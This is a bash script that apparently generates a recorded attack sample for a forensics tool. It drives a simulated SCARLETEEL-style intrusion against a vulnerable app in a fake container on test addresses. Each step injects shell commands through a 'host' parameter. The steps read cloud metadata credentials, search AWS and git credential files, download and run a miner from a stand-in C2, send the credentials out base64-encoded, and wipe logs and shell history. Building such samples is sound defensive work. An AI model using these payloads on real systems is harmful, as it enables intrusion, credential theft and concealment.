#!/bin/bash
# The recorded part of the SCARLETEEL sample: casefile records this script and all it
# starts (simulate.sh runs it under `casefile record`, inside the sample's network
# namespace). It starts the vulnerable web app in the fake container, then plays the
# attacker: every step of the attack is one HTTP request whose `host` parameter smuggles
# shell commands into the app's `sh -c`.
#
# Usage (from simulate.sh): driver.sh WORKDIR CONTAINER_CGROUP_DIR
set -euo pipefail

work=$1
cgroup=$2
app=http://192.0.2.10:8080/api/lookup
attacker=203.0.113.7 # the attacker's source address (TEST-NET-3, on the namespace's lo)
imds=http://169.254.169.254/latest/meta-data/iam/security-credentials/
c2=http://203.0.113.66:8080

# A second between requests, as a person at a keyboard would leave (it also spreads
# the capture over several of casefile's one-second blocks).
step() {
    sleep 1
    printf '\n== %s\n' "$*"
}

# One injected request; prints the app's answer (the commands' output). -q: no ~/.curlrc.
inject() {
    curl -q -sS --interface "$attacker" -G --data-urlencode "host=127.0.0.1; $1" "$app"
}

# --- The container ----------------------------------------------------------------
# A shell joins the fake containerd cgroup (cgroup v2 only: writing cgroup.procs moves
# it there and nowhere else), then execs unshare into new pid/mount/uts namespaces;
# container_init.sh becomes PID 1 there and execs the web app. The app's first stdout
# line arrives through a FIFO once it listens: no polling, so every run is alike.
mkfifo "$work/ready"
sh -c 'echo $$ >"$1/cgroup.procs" && exec unshare --pid --fork --mount-proc --uts -- "$2/container_init.sh"' \
    container "$cgroup" "$work" >"$work/ready" 2>"$work/webapp.err" &
container=$! # the unshare process (the sh exec'd it)
read -r banner <"$work/ready"
echo "$banner"

# --- The attack -------------------------------------------------------------------
step "1. recon through the injectable parameter"
inject 'id; uname -a; cat /etc/os-release'

step "2. instance metadata: which role does this node have?"
answer=$(inject "curl -s $imds")
echo "$answer"
role=${answer##*$'\n'} # the last line: the role name (the first is getent's)

step "3. instance metadata: the role's temporary credentials"
inject "curl -s $imds$role"

step "4. credential hunt: environment and credential files"
inject 'env; find /root /tmp /var/log -name "*credentials*"; cat /root/.aws/credentials /root/.git-credentials; grep -rs aws_secret_access_key /root'

step "5. miner: download to /root/.configure/containerd, make executable, run"
inject "mkdir -p /root/.configure; curl -s -o /root/.configure/containerd $c2/xmrig; chmod +x /root/.configure/containerd; /root/.configure/containerd"

step "6. exfiltration of the credential files to the C2, base64 in the query string"
inject "curl -s \"$c2/upload?h=\$(hostname)&d=\$(cat /root/.aws/credentials /root/.git-credentials | base64 -w0)\""

step "7. anti-forensics: empty the logs, drop the shell history"
inject ': >/var/log/app.log; truncate -s0 /var/log/access.log; cat /dev/null >/root/.bash_history; rm -f /root/.bash_history; history -c'

# --- Stop the container -----------------------------------------------------------
# SIGTERM to the app: PID 1 in its namespace, and with the unshare process the only
# member of the container's cgroup. unshare exits when the app does, and the pid
# namespace goes with them.
while read -r pid; do
    [[ $pid == "$container" ]] || app_pid=$pid
done <"$cgroup/cgroup.procs"
kill -TERM "$app_pid"
wait "$container"
